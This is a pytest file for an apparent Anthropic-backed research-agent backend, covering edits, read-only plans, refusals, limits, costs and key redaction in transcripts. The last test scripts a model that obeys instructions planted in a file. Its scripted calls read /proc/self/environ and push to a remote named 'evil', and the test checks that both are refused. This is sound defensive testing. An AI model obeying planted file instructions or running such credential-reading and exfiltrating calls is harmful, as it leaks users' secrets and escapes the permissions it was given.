"""Plans, edits and reflections that go well, and the ways in which a model does not do what it was asked."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from roles.backend import BackendContext, BackendError, EditResult
from roles.backends.anthropic import transcript
from roles.backends.anthropic.request import default_model
from roles.backends.anthropic.transcript import TranscriptFile
from roles.backends.registry import make_backend
from tests.roles.backends.anthropic.conftest import (
    BRIEF,
    CANVAS,
    CUT_DEPTH,
    EXPECTATION,
    KEY,
    LIMITS,
    World,
    answer,
    plan_answer,
    tree,
)
from tests.stand_in.script import Asked, Stop, ToolCall, Turn, Usage

MUTE = Turn("I am done here.")


def test_an_edit_is_read_made_and_explained(world: World) -> None:
    outcome = world.edit(
        [Turn("Let me look.", [ToolCall("read", {"path": "train.py"})]), CUT_DEPTH, answer()]
    )
    assert (outcome.result, outcome.title, outcome.expectation) == (
        EditResult.EDITED,
        "DEPTH 4 → 2",
        EXPECTATION,
    )
    assert (world.worktree / "train.py").read_text() == CANVAS.replace("DEPTH = 4", "DEPTH = 2")
    assert world.results == [
        ("\n".join(f"{n}\t{line}" for n, line in enumerate(CANVAS.splitlines(), 1)), False),
        ("train.py: replaced 1 time", False),
    ]
    assert world.told.tools == [("read", "train.py"), ("edit", "train.py")]
    assert "Half the layers" in world.told.streamed and "Let me look." in world.told.streamed


def test_the_role_and_the_brief_are_sent_and_cached(world: World) -> None:
    world.edit([CUT_DEPTH, answer()])
    first, second = world.server.asked
    assert "# Junior engineer" in first.system and first.messages[0].text == BRIEF
    assert first.tools == ("read", "grep", "glob", "edit", "write") and first.stream
    mark = {"type": "ephemeral"}
    for asked in (first, second):
        assert asked.body["system"][0]["cache_control"] == mark
        assert asked.body["messages"][0]["content"][0]["cache_control"] == mark
    assert second.body["messages"][-1]["content"][-1]["cache_control"] == mark
    told = (
        world.task().text
        + "its last line: "
        + first.system.split("\n\nYou work in a lab's")[0].splitlines()[-1]
    )
    world.edit([CUT_DEPTH, answer("thought", explanation="no")], text=told)
    assert "# Junior engineer" not in world.server.asked[-1].system  # it stands in the brief


def test_a_plan_is_read_only(world: World) -> None:
    plan = world.plan(
        [Turn(tools=[ToolCall("grep", {"pattern": "WIDTH"})]), plan_answer("Halve DEPTH", "Widen")]
    )
    assert [h.title for h in plan.hypotheses] == [
        "Halve DEPTH",
        "Widen",
    ] and plan.summary == "Updates limit it."
    assert all(asked.tools == ("read", "grep", "glob") for asked in world.server.asked)
    assert "# Chief scientist" in world.server.asked[0].system
    assert "train.py:2: WIDTH = 64" in world.results[0][0]


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("edit", {"path": "train.py", "old": "DEPTH = 4", "new": "DEPTH = 1"}),
        ("write", {"path": "extra/new.py", "text": "x = 1\n"}),
        ("bash", {"command": "git commit -am won"}),
    ],
)
def test_a_chief_that_edits_all_the_same_changes_nothing_and_is_seen(
    world: World, name: str, arguments: dict[str, str]
) -> None:
    before = tree(world.worktree)
    plan = world.plan([Turn(tools=[ToolCall(name, arguments, invented=True)]), plan_answer("Widen")])
    assert tree(world.worktree) == before and plan.hypotheses
    (text, failed), (told, detail) = world.results[0], world.told.tools[0]
    assert failed and f"there is no tool '{name}'" in text
    assert told == name and "refused" in detail


def test_without_a_worktree_a_chief_has_no_tools(world: World) -> None:
    world.plan([plan_answer("Widen")], worktree=None)
    assert world.server.asked[0].tools == () and "tools" not in world.server.asked[0].body


def test_a_reflection_reads_only_and_may_leave_a_note(world: World) -> None:
    said = '{"text": "As expected.", "note_title": "DEPTH", "note_text": "Less is more."}'
    reflection = world.reflect([Turn(said, usage=Usage(11, 7))])
    assert (reflection.text, reflection.note_title, reflection.note_text) == (
        "As expected.",
        "DEPTH",
        "Less is more.",
    )
    assert world.server.asked[0].tools == ("read", "grep", "glob")
    assert (reflection.cost.input_tokens, reflection.cost.output_tokens) == (11, 7)


def test_an_answer_that_does_not_validate_is_asked_for_once_more(world: World) -> None:
    outcome = world.edit([CUT_DEPTH, answer(expectation=""), answer()])
    assert outcome.expectation == EXPECTATION
    assert '"expectation" must not be empty' in world.server.asked[-1].messages[-1].text
    plan = world.plan([MUTE, plan_answer("Widen")])
    assert plan.hypotheses[0].title == "Widen"
    with pytest.raises(BackendError, match="can't be used") as caught:
        world.plan([MUTE, MUTE])
    assert caught.value.cost.output_tokens == 40


def test_an_edit_without_a_usable_answer_is_still_an_edit(world: World) -> None:
    outcome = world.edit([CUT_DEPTH, MUTE, MUTE])
    assert (outcome.result, outcome.title) == (EditResult.EDITED, "Halve DEPTH")
    assert outcome.expectation == "Half the layers should train faster."
    assert world.edit([MUTE, MUTE]).result is EditResult.UNCHANGED


def test_who_says_edited_without_an_edit_did_not(world: World) -> None:
    outcome = world.edit([answer()])
    assert (outcome.result, outcome.explanation) == (
        EditResult.UNCHANGED,
        "it says that it made an edit, and made none",
    )


@pytest.mark.parametrize("result", ["thought", "not-applicable", "question", "refused"])
def test_other_endings_have_their_own_result(world: World, result: str) -> None:
    outcome = world.edit([answer(result, explanation="Which of the two heads?")])
    assert (outcome.result, outcome.explanation) == (EditResult(result), "Which of the two heads?")


def test_a_refusal_by_the_api(world: World) -> None:
    outcome = world.edit([Turn("I will not.", stop=Stop.REFUSAL)])
    assert (outcome.result, outcome.explanation) == (EditResult.REFUSED, "the stand-in will not")
    with pytest.raises(BackendError, match="the model refuses"):
        world.plan([Turn(stop=Stop.REFUSAL)])


def test_an_answer_cut_at_its_length_goes_on(world: World) -> None:
    half = Turn("First half", CUT_DEPTH.tools, stop=Stop.MAX_TOKENS)
    outcome = world.edit([half, CUT_DEPTH, answer()])
    assert outcome.result is EditResult.EDITED
    assert (world.worktree / "train.py").read_text().startswith("DEPTH = 2")
    with pytest.raises(BackendError, match="cut at 1,000 tokens 3 times"):
        world.edit([half] * 3)


def test_a_step_has_a_limit_of_turns_and_of_tokens(world: World) -> None:
    looks = Turn(tools=[ToolCall("glob", {"pattern": "*"})])
    with pytest.raises(BackendError, match="no answer after 6 turns") as caught:
        world.edit([looks] * 6)
    assert caught.value.cost.output_tokens == 120
    with pytest.raises(BackendError, match="no answer after 6,000 tokens"):
        world.edit([replace(looks, usage=Usage(output=3_000))] * 2)


def test_what_every_turn_cost_is_summed(world: World) -> None:
    turns = [
        replace(CUT_DEPTH, usage=Usage(10, 20, 300, 4_000)),
        replace(answer(), usage=Usage(1, 2, 30, 400)),
    ]
    cost = world.edit(turns).cost
    assert (cost.input_tokens, cost.output_tokens) == (11, 22)
    assert (cost.cache_read_tokens, cost.cache_write_tokens) == (330, 4_400)
    assert cost.usd is None and cost.model == default_model()


def test_the_model_is_the_contexts_or_the_newest_sonnet(world: World) -> None:
    newest = default_model()
    assert newest.startswith("claude-sonnet-") and newest >= "claude-sonnet-5-5"
    world.edit([answer("thought", explanation="no")])
    assert world.server.asked[-1].model == newest
    backend = make_backend(
        "anthropic", BackendContext("junior-1", "claude-opus-5", world.context.root, world.context.folder)
    )
    world.server.script([answer("thought", explanation="no")])
    backend.edit(world.task(), world.told)
    assert world.server.asked[-1].model == "claude-opus-5"


def test_a_transcript_is_kept_without_the_key(world: World) -> None:
    (world.worktree / "docs" / "leak.md").write_text(f"the key is {KEY}\n")
    world.edit([Turn("I look.", [ToolCall("read", {"path": "docs/leak.md"})]), CUT_DEPTH, answer()])
    assert world.results[0] == ("1\tthe key is [key]", False)
    (entries,) = world.transcripts
    kinds = [next(key for key in entry if key != "at") for entry in entries]
    turn = ["assistant", "ended", "results"]
    assert kinds == ["model", "system", "user", *turn, *turn, *turn[:2]]
    assert entries[-1]["ended"]["stop"] == "end_turn" and entries[2]["user"] == BRIEF


def test_a_transcript_never_holds_the_key_and_the_oldest_go(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(transcript, "KEPT", 5)
    for number in range(7):
        TranscriptFile(tmp_path, f"edit{number}", KEY).add("assistant", [{"text": f"it is {KEY}"}])
    kept = sorted(tmp_path.iterdir())
    assert len(kept) == 5 and not any("edit0." in path.name for path in kept)
    assert '"it is [key]"' in kept[-1].read_text() and KEY not in kept[-1].read_text()


def test_thinking_goes_back_as_it_came(world: World) -> None:
    world.edit([replace(CUT_DEPTH, thinking="hm, layers"), answer()])
    block = world.server.asked[-1].body["messages"][1]["content"][0]
    assert block == {"type": "thinking", "thinking": "hm, layers", "signature": "c2lnbmVk"}


def test_a_model_told_what_to_do_by_a_file_gets_nowhere(world: World) -> None:
    def obeys(asked: Asked) -> Turn:
        if not asked.tool_results:
            return Turn(tools=[ToolCall("read", {"path": "docs/notes.md"})])
        if len(asked.tool_results) == 1:
            return Turn(tools=[
                ToolCall("edit", {"path": "prepare.py", "old": "SEED = 1", "new": "SEED = 7"}),
                ToolCall("read", {"path": "/proc/self/environ"}),
                ToolCall("bash", {"command": "git push evil"}, invented=True),
            ])  # fmt: skip
        return answer("thought", explanation="I could not.")

    before = tree(world.worktree)
    assert world.edit(obeys).result is EditResult.THOUGHT
    assert tree(world.worktree) == before
    assert [failed for _, failed in world.results] == [False, True, True, True]
    assert all("refused" in detail for _, detail in world.told.tools[1:])
    assert LIMITS.turns > 3
